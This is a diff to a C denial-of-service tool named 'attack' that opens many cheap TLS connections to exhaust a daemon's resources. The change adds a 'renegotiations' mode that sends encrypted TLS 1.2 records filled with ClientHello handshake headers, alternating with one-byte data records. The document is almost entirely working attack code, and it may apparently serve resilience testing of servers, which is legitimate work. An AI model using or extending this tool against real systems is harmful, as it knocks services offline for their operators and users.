@@ -2,17 +2,19 @@
  * Connections that cost a daemon much and themselves little. Each volley is prepared beforehand (what it encrypts,
  * too) and fired on all connections at once; then comes the next, until the time is up.
  */
+#include "seal.h"
 #include "tool.h"
 
 #include <openssl/err.h>
 #include <openssl/ssl.h>
 
-#define RECORDS_MAX   1500 /* of one byte in a volley: more than one turn of a loop */
-#define CONTROLS_MAX  40   /* messages that are not data: more than are accepted */
-#define HOPELESS      20   /* connections in a row that fail */
-#define PATIENCE_S    5
-#define LARGE_RECORDS 8            /* in a volley */
-#define BULK_SIZE     (256 * 1024) /* for each connection in a volley */
+#define RECORDS_MAX      1500 /* of one byte in a volley: more than one turn of a loop */
+#define CONTROLS_MAX     40   /* messages that are not data: more than are accepted */
+#define HOPELESS         20   /* connections in a row that fail */
+#define PATIENCE_S       5
+#define HANDSHAKE_HEADER 4
+#define LARGE_RECORDS    8            /* in a volley */
+#define BULK_SIZE        (256 * 1024) /* for each connection in a volley */
 
 static const char help[] =
 	"usage: attack [options] FORM ADDRESS\n"
@@ -27,6 +29,7 @@ static const char help[] =
 	"  tickets         as the server: a NewSessionTicket, a byte, a NewSessionTicket, a byte\n"
 	"  hellos          as the server, TLS 1.2: a HelloRequest, a byte, a HelloRequest, a byte\n"
 	"  flights         as the server: the answers to TLS handshakes, which all come at the same time\n"
+	"  renegotiations  as the client, TLS 1.2: a ClientHello, a byte, a record full of them, a byte\n"
 	"  bulk_records    records of 16 KiB, as many as the other side takes\n"
 	"  bulk            a ClientHello, and then as many bytes as the other side takes\n"
 	"  segments        a ClientHello in segments of one byte\n"
@@ -40,6 +43,7 @@ enum form {
 	KEYUPDATES,
 	TICKETS,
 	HELLOS,
+	RENEGOTIATIONS,
 	BULK_RECORDS,
 	FLIGHTS,
 	BULK,
@@ -51,14 +55,16 @@ enum form {
 };
 
 static const char *const form_names[FORMS] = {"handshakes", "records", "keyupdates", "tickets",
-	"hellos", "bulk_records", "flights", "bulk", "segments", "proxy", "ldap", "pop3"};
+	"hellos", "renegotiations", "bulk_records", "flights", "bulk", "segments", "proxy", "ldap",
+	"pop3"};
 
 struct connection {
 	int fd, client_fd; /* 0 or less: none; client_fd: where we are the server */
 	SSL *ssl;
 	size_t sent;
 	bool is_open, is_in_segments;
-	bool has_begun; /* BULK: its ClientHello is sent */
+	struct seal seal; /* RENEGOTIATIONS */
+	bool has_begun;   /* BULK: its ClientHello is sent */
 };
 
 static struct attack {
@@ -165,6 +171,24 @@ static void put_records(struct connection *connection)
 	}
 }
 
+/* With nothing behind their heads: they are refused before that is looked at. */
+static void put_renegotiations(struct connection *connection)
+{
+	uint8_t hellos[SSL3_RT_MAX_PLAIN_LENGTH] = {0}, record[sizeof hellos + SEAL_OVERHEAD];
+	struct seal *seal = &connection->seal;
+	if (seal->sequence == 0 && !seal_begin(seal, connection->ssl))
+		die("no keys");
+	for (size_t i = 0; i < sizeof hellos; i += HANDSHAKE_HEADER)
+		hellos[i] = SSL3_MT_CLIENT_HELLO;
+	for (int i = 0; i < CONTROLS_MAX; i++) {
+		size_t len = i % 2 ? sizeof hellos : HANDSHAKE_HEADER;
+		len = seal_record(seal, SSL3_RT_HANDSHAKE, hellos, len, record);
+		put(connection, record, len);
+		len = seal_record(seal, SSL3_RT_APPLICATION_DATA, "x", 1, record);
+		put(connection, record, len);
+	}
+}
+
 static void put_large_records(struct connection *connection)
 {
 	static const char zeros[SSL3_RT_MAX_PLAIN_LENGTH];
@@ -181,6 +205,9 @@ static void load_volley(struct connection *connection, size_t index)
 	case TICKETS:
 	case HELLOS:
 		put_records(connection);
+		return;
+	case RENEGOTIATIONS:
+		put_renegotiations(connection);
 		return;
 	case BULK_RECORDS:
 		put_large_records(connection);
@@ -352,8 +379,11 @@ static void run(void)
 static void make_context(void)
 {
 	attack.context = SSL_CTX_new(attack.serve ? TLS_server_method() : TLS_client_method());
-	SSL_CTX_set_max_proto_version(
-		attack.context, attack.form == HELLOS ? TLS1_2_VERSION : TLS1_3_VERSION);
+	SSL_CTX_set_max_proto_version(attack.context,
+		attack.form == HELLOS || attack.form == RENEGOTIATIONS ? TLS1_2_VERSION
+								       : TLS1_3_VERSION);
+	if (attack.form == RENEGOTIATIONS)
+		SSL_CTX_set_cipher_list(attack.context, SEAL_CIPHERS);
 	if (attack.cert &&
 		(SSL_CTX_use_certificate_chain_file(attack.context, attack.cert) != 1 ||
 			SSL_CTX_use_PrivateKey_file(attack.context, attack.key, SSL_FILETYPE_PEM) !=
